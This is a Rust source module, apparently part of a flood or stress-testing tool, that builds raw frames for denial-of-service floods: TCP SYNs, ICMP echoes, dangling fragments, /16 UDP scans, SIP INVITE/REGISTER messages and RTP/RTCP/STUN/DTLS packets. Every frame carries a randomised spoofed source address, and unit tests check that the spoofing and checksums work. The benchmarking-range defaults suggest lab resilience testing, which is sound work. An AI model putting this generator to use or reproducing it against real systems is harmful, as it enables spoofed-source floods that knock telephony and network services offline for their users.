//! The frames of a flood: one template, of which source and names change from frame to frame.

use crate::{Attack, Place, media};
use std::net::Ipv4Addr;
use std::str::FromStr;

const ETHERNET: usize = 14;
const IPV4: usize = 20;
const UDP: usize = 8;
const TCP: usize = 20;
/// Octets behind an ICMP echo's header, as `ping` sends them.
const ECHO_OCTETS: usize = 56;
/// Flags of the IPv4 header (RFC 791 §3.1), in its seventh octet.
const DONT_FRAGMENT: u8 = 0x40;
const MORE_FRAGMENTS: u8 = 0x20;
/// Stands where a frame's own number is written, in the template of a SIP message.
const NUMBER: &[u8] = b"########";
/// Numbers in one template at most.
const NUMBERS_MAX: usize = 8;
/// Ports that a source seems to send from begin here.
const PORT_FIRST: u16 = 1_024;

/// What a flood consists of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// SIP INVITEs with a session description, over UDP.
    Invite,
    /// SIP REGISTERs over UDP.
    Register,
    /// ICMP echo requests.
    Icmp,
    /// TCP SYNs.
    Syn,
    /// UDP datagrams to every address of the target's /16, for its router to look for.
    Scan,
    /// First fragments of ICMP echo requests of which the rest never comes.
    Fragment,
    /// Speech in RTP, of wrong sources.
    Rtp,
    /// Reports and farewells of RTCP.
    Rtcp,
    /// Connectivity checks of ICE whose integrity is wrong.
    Stun,
    /// Hellos of DTLS of which nothing follows.
    Dtls,
}

/// Addresses that a flood claims to come from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Sources {
    first: u32,
    mask: u32,
}

impl Sources {
    /// Whether all of them are loopback addresses.
    #[must_use]
    pub const fn are_loopback(&self) -> bool {
        self.first >> 24 == 127 && self.mask <= 0x00ff_ffff
    }

    const fn at(&self, random: u32) -> u32 {
        self.first | (random & self.mask)
    }

    /// One of them.
    pub(crate) const fn pick(&self, random: u64) -> Ipv4Addr {
        Ipv4Addr::from_bits(self.at((random >> 32) as u32))
    }
}

impl FromStr for Sources {
    type Err = String;

    /// Reads `198.18.0.0/15`.
    fn from_str(text: &str) -> Result<Self, String> {
        let (address, bits) = text.split_once('/').unwrap_or((text, "32"));
        let address: Ipv4Addr = address.parse().map_err(|_| "no IPv4 address".to_owned())?;
        let bits: u32 = bits.parse().map_err(|_| "after the slash stand bits".to_owned())?;
        if !(1..=32).contains(&bits) {
            return Err("1 to 32 bits".to_owned());
        }
        let mask = u32::MAX.checked_shr(bits).unwrap_or(0);
        Ok(Self { first: u32::from(address) & !mask, mask })
    }
}

/// A template and what changes in it.
#[derive(Debug)]
pub(crate) struct Frame {
    bytes: Vec<u8>,
    kind: Kind,
    sources: Sources,
    numbers: Vec<usize>,
    /// The first port, and how many even ones from it on.
    ports: (u16, u16),
    random: u64,
}

impl Frame {
    pub(crate) fn new(attack: &Attack, place: &Place) -> Self {
        let target = attack.target;
        let payload = match attack.kind {
            Kind::Invite => invite(&target.to_string()),
            Kind::Register => register(&target.to_string()),
            Kind::Icmp | Kind::Fragment => vec![0xa5; ECHO_OCTETS],
            Kind::Scan => b"scan".to_vec(),
            Kind::Syn => Vec::new(),
            Kind::Rtp | Kind::Rtcp | Kind::Stun | Kind::Dtls => media::template(attack.kind),
        };
        let (protocol, header) = match attack.kind {
            Kind::Icmp | Kind::Fragment => (1, UDP),
            Kind::Syn => (6, TCP),
            _ => (17, UDP),
        };
        let whole = IPV4 + header + payload.len();
        let mut bytes = Vec::with_capacity(ETHERNET + whole);
        bytes.extend(place.target_mac());
        bytes.extend(place.own_mac());
        bytes.extend([0x08, 0x00, 0x45, 0]);
        bytes.extend((whole as u16).to_be_bytes());
        let flags = if attack.kind == Kind::Fragment { MORE_FRAGMENTS } else { DONT_FRAGMENT };
        bytes.extend([0, 0, flags, 0, 64, protocol, 0, 0, 0, 0, 0, 0]);
        bytes.extend(target.ip().octets());
        let mut transport = vec![0; header];
        transport[2..4].copy_from_slice(&target.port().to_be_bytes());
        match attack.kind {
            Kind::Icmp | Kind::Fragment => transport[..4].copy_from_slice(&[8, 0, 0, 0]),
            Kind::Syn => transport[12..16].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]),
            _ => {
                let length = (UDP + payload.len()) as u16;
                transport[4..6].copy_from_slice(&length.to_be_bytes());
            }
        }
        bytes.extend(transport);
        bytes.extend(payload);
        let numbers = bytes.windows(NUMBER.len()).enumerate();
        let numbers = numbers.filter(|(_, window)| *window == NUMBER).map(|(at, _)| at);
        let numbers = numbers.take(NUMBERS_MAX).collect();
        let (kind, sources) = (attack.kind, attack.sources);
        let ports = (target.port(), attack.ports.max(1));
        Self { bytes, kind, sources, numbers, ports, random: 0x5eed }
    }

    pub(crate) fn length(&self) -> usize {
        self.bytes.len()
    }

    /// Writes the next frame.
    pub(crate) fn write(&mut self, out: &mut [u8]) {
        self.random = self.random.wrapping_mul(0x5851_f42d_4c95_7f2d).wrapping_add(0x1405_7b7e);
        let random = self.random ^ (self.random >> 29);
        out.copy_from_slice(&self.bytes);
        let ip = &mut out[ETHERNET..];
        ip[12..16].copy_from_slice(&self.sources.at((random >> 32) as u32).to_be_bytes());
        match self.kind {
            Kind::Scan => ip[18..IPV4].copy_from_slice(&(random as u16).to_be_bytes()),
            Kind::Fragment => ip[4..6].copy_from_slice(&(random as u16).to_be_bytes()),
            _ => {}
        }
        let sum = checksum(&ip[..IPV4], 0);
        ip[10..12].copy_from_slice(&sum.to_be_bytes());
        let port = (random as u16).max(PORT_FIRST).to_be_bytes();
        match self.kind {
            Kind::Icmp | Kind::Fragment => {
                ip[IPV4 + 4..IPV4 + 8].copy_from_slice(&(random as u32).to_be_bytes());
                let sum = checksum(&ip[IPV4..], 0);
                ip[IPV4 + 2..IPV4 + 4].copy_from_slice(&sum.to_be_bytes());
            }
            Kind::Syn => {
                ip[IPV4..IPV4 + 2].copy_from_slice(&port);
                ip[IPV4 + 4..IPV4 + 8].copy_from_slice(&(random as u32).to_be_bytes());
                // The pseudo-header of RFC 9293 §3.1: addresses, protocol, length.
                let pseudo = words(&ip[12..IPV4]) + 6 + TCP as u32;
                let sum = checksum(&ip[IPV4..], pseudo);
                ip[IPV4 + 16..IPV4 + 18].copy_from_slice(&sum.to_be_bytes());
            }
            _ => {
                // A UDP checksum of 0 says that there is none (RFC 768).
                ip[IPV4..IPV4 + 2].copy_from_slice(&port);
                let (first, ports) = self.ports;
                let apart = ((random >> 40) as u16 % ports).wrapping_mul(2);
                let to = first.wrapping_add(apart);
                ip[IPV4 + 2..IPV4 + 4].copy_from_slice(&to.to_be_bytes());
                media::change(self.kind, random, &mut ip[IPV4 + UDP..]);
                let digits = hexadecimal(random as u32 ^ (random >> 32) as u32);
                for &at in &self.numbers {
                    out[at..at + NUMBER.len()].copy_from_slice(&digits);
                }
            }
        }
    }
}

fn words(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)))
        .sum()
}

/// RFC 1071.
fn checksum(bytes: &[u8], begun: u32) -> u16 {
    let sum = words(bytes) + begun;
    let folded = (sum & 0xffff) + (sum >> 16);
    !((folded & 0xffff) + (folded >> 16)) as u16
}

fn hexadecimal(number: u32) -> [u8; NUMBER.len()] {
    core::array::from_fn(|place| b"0123456789abcdef"[(number >> (28 - 4 * place)) as usize & 15])
}

fn invite(target: &str) -> Vec<u8> {
    let sdp = "v=0\r\no=- 1 1 IN IP4 198.18.0.1\r\ns=-\r\nc=IN IP4 198.18.0.1\r\nt=0 0\r\n\
        m=audio 6000 RTP/AVP 0 8\r\na=rtpmap:0 PCMU/8000\r\na=rtpmap:8 PCMA/8000\r\n";
    format!(
        "INVITE sip:########@{target} SIP/2.0\r\n\
        Via: SIP/2.0/UDP 198.18.0.1:5060;rport;branch=z9hG4bKa########\r\nMax-Forwards: 70\r\n\
        From: <sip:########@{target}>;tag=########\r\nTo: <sip:########@{target}>\r\n\
        Call-ID: a########\r\nCSeq: 1 INVITE\r\nContact: <sip:a@198.18.0.1:5060>\r\n\
        Content-Type: application/sdp\r\nContent-Length: {}\r\n\r\n{sdp}",
        sdp.len()
    )
    .into_bytes()
}

fn register(target: &str) -> Vec<u8> {
    format!(
        "REGISTER sip:{target} SIP/2.0\r\n\
        Via: SIP/2.0/UDP 198.18.0.1:5060;rport;branch=z9hG4bKa########\r\nMax-Forwards: 70\r\n\
        From: <sip:########@{target}>;tag=########\r\nTo: <sip:########@{target}>\r\n\
        Call-ID: a########\r\nCSeq: 1 REGISTER\r\nContact: <sip:########@198.18.0.1:5060>\r\n\
        Expires: 600\r\nContent-Length: 0\r\n\r\n"
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    fn frames(kind: Kind) -> Vec<Vec<u8>> {
        let attack = Attack {
            kind,
            target: "10.0.0.1:5060".parse().unwrap(),
            ports: 4,
            sources: "198.18.0.0/15".parse().unwrap(),
            rate: 1,
            time: Duration::ZERO,
        };
        let mut frame = Frame::new(&attack, &Place::for_tests());
        let mut out = vec![0; frame.length()];
        let mut next = || {
            frame.write(&mut out);
            out.clone()
        };
        (0..1_000).map(|_| next()).collect()
    }

    #[test]
    fn every_frame_has_right_checksums_and_a_source_of_the_range() {
        let media = [Kind::Rtp, Kind::Rtcp, Kind::Stun, Kind::Dtls];
        let others =
            [Kind::Invite, Kind::Register, Kind::Icmp, Kind::Syn, Kind::Scan, Kind::Fragment];
        for kind in media.into_iter().chain(others) {
            let mut sources = std::collections::BTreeSet::new();
            let mut others = std::collections::BTreeSet::new();
            for frame in frames(kind) {
                let ip = &frame[ETHERNET..];
                assert_eq!(checksum(&ip[..IPV4], 0), 0);
                assert_eq!(usize::from(u16::from_be_bytes([ip[2], ip[3]])), ip.len());
                assert_eq!((ip[12], ip[13] & 0xfe), (198, 18));
                sources.insert(ip[12..16].to_vec());
                match kind {
                    Kind::Icmp => assert_eq!(checksum(&ip[IPV4..], 0), 0),
                    Kind::Fragment => {
                        assert_eq!(checksum(&ip[IPV4..], 0), 0);
                        assert_eq!((ip[6], ip[7], (ip.len() - IPV4) % 8), (0x20, 0, 0));
                        others.insert(ip[4..6].to_vec());
                    }
                    Kind::Scan => {
                        assert_eq!((ip[16], ip[17], ip[6]), (10, 0, 0x40));
                        others.insert(ip[18..20].to_vec());
                    }
                    Kind::Syn => {
                        let pseudo = words(&ip[12..IPV4]) + 6 + TCP as u32;
                        assert_eq!(checksum(&ip[IPV4..], pseudo), 0);
                    }
                    Kind::Rtp | Kind::Rtcp | Kind::Stun | Kind::Dtls => {
                        let to = u16::from_be_bytes([ip[22], ip[23]]);
                        assert!([5060, 5062, 5064, 5066].contains(&to), "{to}");
                    }
                    Kind::Invite | Kind::Register => {
                        let text = String::from_utf8(ip[IPV4 + UDP..].to_vec()).unwrap();
                        assert!(!text.contains('#') && text.contains(" SIP/2.0\r\n"), "{text}");
                    }
                }
            }
            assert!(sources.len() > 900, "{kind:?}: {} sources", sources.len());
            let varies = matches!(kind, Kind::Scan | Kind::Fragment);
            assert!(!varies || others.len() > 900, "{kind:?}: {} others", others.len());
        }
    }

    #[test]
    fn a_range_of_sources_is_read() {
        let read = |text: &str| text.parse::<Sources>();
        assert!(read("127.0.0.0/8").unwrap().are_loopback());
        assert!(!read("126.0.0.0/7").unwrap().are_loopback());
        assert!(
            read("198.18.0.0/0").is_err() && read("::1").is_err() && read("1.2.3.4/x").is_err()
        );
        assert_eq!(read("10.1.2.3").unwrap().at(77), u32::from_be_bytes([10, 1, 2, 3]));
    }
}
